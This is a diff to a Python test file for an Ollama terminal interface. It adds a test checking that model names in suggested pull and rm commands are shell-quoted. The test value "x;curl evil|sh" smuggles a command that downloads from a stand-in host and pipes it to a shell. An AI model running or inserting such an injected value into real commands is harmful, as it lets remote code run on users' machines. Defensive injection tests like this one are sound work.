@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import pytest
 
+from ollama_tui.core.errors import NoSuchModel, Refused
+from ollama_tui.core.installed import refuse_taken
 from ollama_tui.core.library import Column, Library, parameter_count
 from ollama_tui.core.models import Model
 
@@ -140,3 +142,16 @@ class TestCounting:
 def test_libraries_of_the_same_models_are_equal() -> None:
     assert Library((SMALL,)) == Library((SMALL,))
     assert Library((SMALL,)) != Library((LARGE,))
+
+
+class TestCommandsToPaste:
+    def test_a_name_is_one_word_of_the_shell(self) -> None:
+        hostile = "x;curl evil|sh"
+
+        with pytest.raises(NoSuchModel) as absent:
+            Library().installed(hostile)
+        with pytest.raises(Refused) as taken:
+            refuse_taken(Library((Model(hostile),)), hostile)
+
+        assert absent.value.remedy == f"`ollama-tui pull '{hostile}'` fetches it."
+        assert taken.value.remedy == f"`ollama-tui rm '{hostile}'` deletes it first."
